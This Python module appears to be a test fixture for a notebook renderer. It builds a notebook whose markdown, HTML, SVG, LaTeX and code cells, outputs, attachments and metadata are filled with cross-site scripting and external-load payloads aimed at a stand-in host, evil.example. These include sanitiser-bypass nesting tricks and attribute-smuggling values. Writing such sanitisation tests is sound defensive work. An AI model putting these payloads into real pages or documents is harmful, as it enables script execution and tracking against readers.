"""A notebook whose every part tries to run something, or to load something, wherever a page shows it."""

import json

from sagews.backend.formats.cell import Cell, CellType
from sagews.backend.formats.notebook import Notebook

HOST = "http://evil.example"
"""Where everything would go."""
SCRIPT = "alert('ran');fetch('http://evil.example/fetched')"
HTML = (
    f"<script>{SCRIPT}</script>",
    f"<SCRIPT SRC={HOST}/a.js></SCRIPT>",
    f'<img src="x" onerror="{SCRIPT}">',
    f'<img src="{HOST}/a.png" srcset="{HOST}/b.png 2x">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    f"<svg onload=\"{SCRIPT}\"><image href='{HOST}/c.png'/><script>{SCRIPT}</script></svg>",
    f'<svg><style><img src=x onerror="{SCRIPT}"></style></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SCRIPT}"></style></mglyph></table></mtext></math>',
    f"<math><annotation-xml encoding='text/html'><img src=x onerror=\"{SCRIPT}\"></annotation-xml></math>",
    f'<iframe src="javascript:{SCRIPT}"></iframe><iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    f'<object data="{HOST}/o"></object><embed src="{HOST}/e">',
    f'<link rel="stylesheet" href="{HOST}/s.css"><link rel="prefetch" href="{HOST}/p"><base href="{HOST}/">',
    f'<meta http-equiv="refresh" content="0;url={HOST}/m">',
    f"<style>@import url({HOST}/i.css); body {{ background: url({HOST}/b.png) }}</style>",
    f'<p style="background-image: url({HOST}/bg.png)">a</p>',
    f'<p style="background-color: u\\72l({HOST}/bg2.png)">a</p><p style="color: image-set(\'{HOST}/x\' 1x)">a</p>',
    f'<p style="list-style: url({HOST}/l.png); position: fixed; top: 0">a</p>',
    f'<form action="{HOST}/f"><input autofocus onfocus="{SCRIPT}"><button>b</button></form>',
    f'<video src="{HOST}/v" poster="{HOST}/v.png"></video><audio src="{HOST}/a" autoplay></audio>',
    f'<a href="javascript:{SCRIPT}" id="run">x</a><a href=" java\nscript:{SCRIPT}">y</a>',
    f'<a ping="{HOST}/ping" href="#a">z</a>',
    f'<details open ontoggle="{SCRIPT}"><summary>d</summary></details>',
    f'<div onmouseover="{SCRIPT}" id=main class=cell>hover</div>',
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript>',
    f'<!--><img src=x onerror="{SCRIPT}">-->',
    f'<template><img src=x onerror="{SCRIPT}"></template>',
    f'<table background="{HOST}/t.png"><tr><td background="{HOST}/d.png">1</td></tr></table>',
    f"</code></pre></section></main></body><script>{SCRIPT}</script>",
    "<title></title><textarea></textarea><xmp><script>alert(1)</script></xmp><plaintext>",
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script>'
SVG += f'<image href="{HOST}/s.png"/></svg>'
MARKDOWN = (
    f"[a](javascript:{SCRIPT}) ![p]({HOST}/md.png) ![q](data:image/svg+xml,<svg/onload=alert(1)>)",
    f'$</math><script>{SCRIPT}</script>$ $\\text{{<img src=x onerror="{SCRIPT}">}}$',
    f"$$\\href{{javascript:{SCRIPT}}}{{x}} \\style{{background:url({HOST}/tex.png)}}{{y}}$$",
    f"\\begin{{align}}<script>{SCRIPT}</script>\\end{{align}}",
    f'# <img src=x onerror="{SCRIPT}"> heading `<script>`',
    f"## [link](javascript:{SCRIPT})",
    f"```html\n<script>{SCRIPT}</script>\n```",
    f'![attached](attachment:a.svg) ![attached](attachment:b"onerror="{SCRIPT})',
)


def notebook() -> Notebook:
    """Return all of it as one notebook."""
    shown = [{"text/html": html} for html in HTML]
    shown += [{"text/markdown": text} for text in (*MARKDOWN, *HTML)]
    shown += [{"image/svg+xml": SVG}, {"image/png": f'x" onerror="{SCRIPT}'}, {"image/png": "aGk="}]
    shown += [{"text/latex": text} for text in MARKDOWN]
    shown += [{"application/javascript": SCRIPT, f"<script>{SCRIPT}</script>/x": "1"}]
    outputs = [output(data) for data in shown]
    outputs.append(json.dumps({"output_type": "stream", "name": "stdout", "text": ["\x1b]8;;", *HTML]}))
    traceback = [f"\x1b[31m{html}\x1b[0m\x1b[<script>m" for html in HTML]
    outputs.append(json.dumps({"output_type": "error", "ename": HTML[0], "evalue": HTML[0], "traceback": traceback}))
    attached = json.dumps(
        {"a.svg": {"image/svg+xml": SVG}, f'b"onerror="{SCRIPT}': {"image/png": f'"onerror="{SCRIPT}'}}
    )
    cells = [Cell(f"m{n}", CellType.MARKDOWN, text, attachments=attached) for n, text in enumerate((*MARKDOWN, *HTML))]
    cells += [Cell("code", CellType.CODE, "\n".join(HTML), outputs=tuple(outputs)), Cell("raw", CellType.RAW, HTML[0])]
    hidden = '{"jupyter": {"source_hidden": true, "outputs_hidden": true}}'
    cells.append(Cell("hidden", CellType.CODE, HTML[0], metadata=hidden, outputs=(output({"text/html": HTML[2]}),)))
    metadata = {"title": HTML[0], "language_info": {"name": HTML[0]}}
    return Notebook(cells=tuple(cells), metadata=json.dumps(metadata))


def output(data: dict[str, str]) -> str:
    """Return the JSON of an output with these forms."""
    return json.dumps({"output_type": "display_data", "metadata": {}, "data": data})
